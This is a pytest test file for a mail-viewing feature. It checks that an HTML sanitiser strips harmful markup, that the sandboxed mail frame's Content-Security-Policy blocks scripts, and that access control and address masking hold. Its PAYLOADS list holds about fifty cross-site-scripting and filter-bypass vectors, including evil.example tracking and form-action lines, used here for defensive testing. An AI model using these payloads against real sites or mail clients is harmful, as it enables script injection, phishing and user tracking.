"""T025 and its sweep: nothing of a mail's layout runs, fetches, sends or covers anything."""

from html.parser import HTMLParser

import pytest
from sqlalchemy import text

from app.mailboxes import showing
from tests.factories import make_customer, make_employee
from tests.mailboxes.cast import make_mail, make_mailbox, take

PAYLOADS = (
    "<script>__pwn()</script>",
    "<img src=x onerror=__pwn()>",
    "<svg onload=__pwn()>",
    "<svg><script>__pwn()</script></svg>",
    "<svg><animate onbegin=__pwn() attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwn()>",
    "<math><mi//xlink:href='data:x,<script>__pwn()</script>'>",
    "<iframe srcdoc='<script>__pwn()</script>'></iframe>",
    "<iframe src=javascript:__pwn()></iframe>",
    "<object data=javascript:__pwn()></object>",
    "<embed src=javascript:__pwn()>",
    "<a href=javascript:__pwn()>x</a>",
    "<a href='java\tscript:__pwn()'>x</a>",
    "<a href='&#106;avascript:__pwn()'>x</a>",
    "<a href='data:text/html,<script>__pwn()</script>'>x</a>",
    "<a href='vbscript:__pwn()'>x</a>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:__pwn()>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "<div style='background-color:url(https://evil.example/x)'>x</div>",
    "<div style='width:expression(__pwn())'>x</div>",
    "<div style='color:\\75rl(https://evil.example)'>x</div>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/pixel.gif 2x'>",
    "<img src='data:image/svg+xml,<svg onload=__pwn()>'>",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<video src=https://evil.example/x poster=https://evil.example/y onloadstart=__pwn()></video>",
    "<audio src=x onerror=__pwn()>",
    "<body onload=__pwn() background=https://evil.example/x>",
    "<table background=https://evil.example/x><td background=https://evil.example/y>x</td></table>",
    "<details open ontoggle=__pwn()>x</details>",
    "<div popover id=p onbeforetoggle=__pwn()>x</div>",
    "<div oncontentvisibilityautostatechange=__pwn() style=content-visibility:auto>x</div>",
    "<input autofocus onfocus=__pwn()>",
    "<noscript><p title='</noscript><img src=x onerror=__pwn()>'>",
    "<template><script>__pwn()</script></template>",
    "<xmp><p title='</xmp><script>__pwn()</script>'>",
    "<textarea><p title='</textarea><img src=x onerror=__pwn()>'>",
    "<!--><script>__pwn()</script>-->",
    "<![CDATA[<script>__pwn()</script>]]>",
    "<div hx-get=/admin hx-trigger=load data-hx-delete=/customers hx-on::load=__pwn()>x</div>",
    "<a href=/settings hx-vals='js:{a:__pwn()}'>x</a>",
    "&lt;img src=x onerror=__pwn()&gt;",
    "<p/onclick=__pwn()>x",
    "<\x00script>__pwn()</script>",
    '"><script>__pwn()</script>',
    "<scr<script>ipt>__pwn()</scr</script>ipt>",
)


class Seen(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attributes]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_harmful_is_left(payload):
    cleaned = showing.clean(payload, pictures=False, inline=lambda _cid: None)
    seen = Seen(cleaned)
    assert seen.tags <= showing.TAGS
    for tag, name, value in seen.attributes:
        assert name in showing.ATTRIBUTES["*"] | showing.ATTRIBUTES.get(tag, set()) | {"rel", "target"}, name
        assert not name.startswith(("on", "hx-", "data-"))
        assert tag != "img" or name != "src"
        assert name != "href" or value.startswith(("http:", "https:", "mailto:", "tel:", "/"))
        assert name != "style" or not any(word in value.lower() for word in ("url", "position", "expression", "\\"))


def test_pictures_come_only_when_asked_for_and_only_by_http():
    html = "<img src=https://shop.example/a.png><img src=//shop.example/b.png><img src=data:image/png;base64,AAAA>"
    assert "src=" not in showing.clean(html, pictures=False, inline=lambda _cid: None)
    shown = showing.clean(html, pictures=True, inline=lambda _cid: None)
    assert Seen(shown).attributes == [("img", "src", "https://shop.example/a.png")]


def test_pictures_in_the_mail_are_shown():
    cleaned = showing.clean("<img src=cid:logo@x>", pictures=False, inline={"logo@x": ("image/png", b"png")}.get)
    assert cleaned == '<img src="data:image/png;base64,cG5n">'


def test_the_frame_lets_nothing_run(browser, db):
    mailbox, agent = make_mailbox(), browser(make_employee("manager"))
    mail = make_mail(make_customer().email, "Hello")
    mail.add_alternative("<p>Hello</p><script>__pwn()</script><img src=https://evil.example/p.gif>", subtype="html")
    kept = take(mailbox, mail)
    here = f"/mails/{kept.comm_id}"
    page = agent.get(here)
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page.text
    assert "Show pictures" in page.text
    frame = agent.http.get(f"{here}/layout")
    policy = frame.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-popups allow-popups-to-escape-sandbox; default-src 'none'")
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy
    assert "img-src data:;" in policy
    assert "__pwn" not in frame.text
    assert "evil" not in frame.text
    with_pictures = agent.http.get(f"{here}/layout?pictures=1")
    assert "https://evil.example/p.gif" in with_pictures.text
    assert "script-src" not in with_pictures.headers["Content-Security-Policy"]


def test_who_may_not_see_the_conversation_sees_no_mail(browser, db):
    customer = make_customer()
    kept = take(make_mailbox(), make_mail(customer.email))
    for path in ("", "/layout", "/source"):
        assert browser(customer).get(f"/mails/{kept.comm_id}{path}").status_code in (403, 404)
    assert browser(make_employee()).get(f"/mails/{kept.comm_id}/source").mimetype == "application/octet-stream"


def test_addresses_are_masked_for_whom_lacks_the_right(browser, db):
    box = make_mailbox()
    kept = take(box, make_mail("ada@example.com"))
    db.execute(text("INSERT INTO changed_grants VALUES ('agent', 'pii.read', NULL), ('admin', 'pii.read', NULL)"))
    db.commit()
    agent, admin = browser(make_employee()), browser(make_employee("admin"))
    shown = agent.get(f"/mails/{kept.comm_id}").text
    assert "ada@example.com" not in shown
    assert "As it came" not in shown
    assert agent.get(f"/mails/{kept.comm_id}/source").status_code == 403
    listed = admin.get(f"/settings/mailboxes/{box.mailbox_id}").text
    assert "a****@example.com" in listed
    assert "ada@example.com" not in listed
